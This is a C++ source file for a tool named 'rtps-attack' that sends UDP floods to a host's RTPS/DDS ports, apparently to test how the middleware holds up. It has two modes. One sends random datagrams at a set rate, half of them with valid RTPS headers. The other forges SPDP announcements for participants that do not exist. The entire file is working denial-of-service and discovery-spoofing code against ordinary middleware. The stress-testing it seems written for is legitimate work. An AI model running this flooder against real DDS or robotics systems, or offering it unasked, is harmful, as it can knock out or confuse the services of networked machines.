// SPDX-License-Identifier: Apache-2.0
// What somebody who reaches a host's RTPS ports can send without knowing anything.
// usage: rtps-attack garbage|participants ADDRESS DOMAIN SECONDS [PER_SECOND]
//   garbage       random datagrams, half of them with a good RTPS header; as fast as it goes, or so
//   many MB/s participants  well-formed announcements of participants that do not exist, each
//   another one

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;
using Bytes = std::vector<std::uint8_t>;

void put16(Bytes& b, unsigned v) {
  b.push_back(static_cast<std::uint8_t>(v));
  b.push_back(static_cast<std::uint8_t>(v >> 8));
}
void put32(Bytes& b, std::uint32_t v) {
  put16(b, v & 0xFFFFU);
  put16(b, v >> 16);
}
void put(Bytes& b, const Bytes& more) {
  b.insert(b.end(), more.begin(), more.end());
}

Bytes header(std::uint32_t who) {
  Bytes b = {'R', 'T', 'P', 'S', 2, 3, 1, 15};
  put32(b, 0xBAD0BAD0U);
  put32(b, who);
  put32(b, 1);
  return b;
}

void locator(Bytes& b, unsigned id, std::uint32_t port) {
  put16(b, id);
  put16(b, 24);
  put32(b, 1);
  put32(b, port);
  put(b, Bytes(12, 0));
  put(b, {127, 0, 0, 1});
}

/// DATA(p) of RTPS 2.3, 8.5.3.2: as a participant announces itself.
Bytes announcement(std::uint32_t who) {
  Bytes list = {0, 3, 0, 0};                // PL_CDR_LE
  put(list, {0x15, 0, 4, 0, 2, 3, 0, 0});   // protocol version
  put(list, {0x16, 0, 4, 0, 1, 15, 0, 0});  // vendor
  put(list, {0x50, 0, 16, 0});              // participant GUID
  const Bytes head = header(who);
  put(list, Bytes(head.begin() + 8, head.end()));
  put(list, {0, 0, 1, 0xC1});
  locator(list, 0x32, 50'000 + who % 10'000);          // metatraffic unicast
  locator(list, 0x31, 50'000 + who % 10'000);          // default unicast
  put(list, {0x02, 0, 8, 0, 5, 0, 0, 0, 0, 0, 0, 0});  // lease: 5 s
  put(list, {0x58, 0, 4, 0, 0x3F, 0x0C, 0, 0});        // builtin endpoints
  put(list, {0x01, 0, 0, 0});                          // sentinel
  Bytes data;
  put16(data, 0);                             // extra flags
  put16(data, 16);                            // octets to inline QoS
  put(data, {0, 1, 0, 0xC7, 0, 1, 0, 0xC2});  // reader, writer: SPDP
  put32(data, 0);
  put32(data, 1);  // sequence number
  put(data, list);
  Bytes b = header(who);
  b.push_back(0x15);
  b.push_back(0x05);  // little-endian, data present
  put16(b, static_cast<unsigned>(data.size()));
  put(b, data);
  return b;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 5) return 2;
  const bool garbage = std::string(argv[1]) == "garbage";
  const int domain = std::atoi(argv[3]);
  const double seconds = std::atof(argv[4]), rate = argc > 5 ? std::atof(argv[5]) : 0;
  const int s = socket(AF_INET, SOCK_DGRAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  inet_pton(AF_INET, argv[2], &to.sin_addr);
  std::mt19937 random(7);
  std::vector<Bytes> pool;
  for (int i = 0; garbage && i < 64; ++i) {
    Bytes b(1200 + random() % 60'000);
    for (auto& byte : b) byte = static_cast<std::uint8_t>(random());
    if (i % 2 == 0) {
      const Bytes good = header(std::uint32_t(i));
      std::copy(good.begin(), good.end(), b.begin());
    }
    pool.push_back(b);
  }
  const auto begin = Clock::now();
  std::uint64_t sent = 0, bytes = 0;
  for (double at = 0; at < seconds;) {
    at = std::chrono::duration<double>(Clock::now() - begin).count();
    // Metatraffic and user ports of the first ten participants, and the multicast port.
    const int port =
        7400 + 250 * domain + (garbage ? (sent % 21 == 0 ? 0 : 9 + int(sent % 21)) : 0);
    const Bytes b = garbage ? pool[sent % pool.size()] : announcement(std::uint32_t(sent));
    for (int p = 0; p < (garbage ? 1 : 10); ++p) {
      to.sin_port = htons(static_cast<std::uint16_t>(garbage ? port : port + 10 + 2 * p));
      if (sendto(s, b.data(), b.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0)
        bytes += b.size();
    }
    ++sent;
    const double ahead_s =
        rate > 0 ? (garbage ? double(bytes) / 1e6 : double(sent)) / rate - at : 0;
    if (ahead_s > 0.001) std::this_thread::sleep_for(std::chrono::duration<double>(ahead_s));
  }
  std::printf("%llu sent, %.1f MB/s\n", static_cast<unsigned long long>(sent),
              double(bytes) / 1e6 / seconds);
  close(s);
}
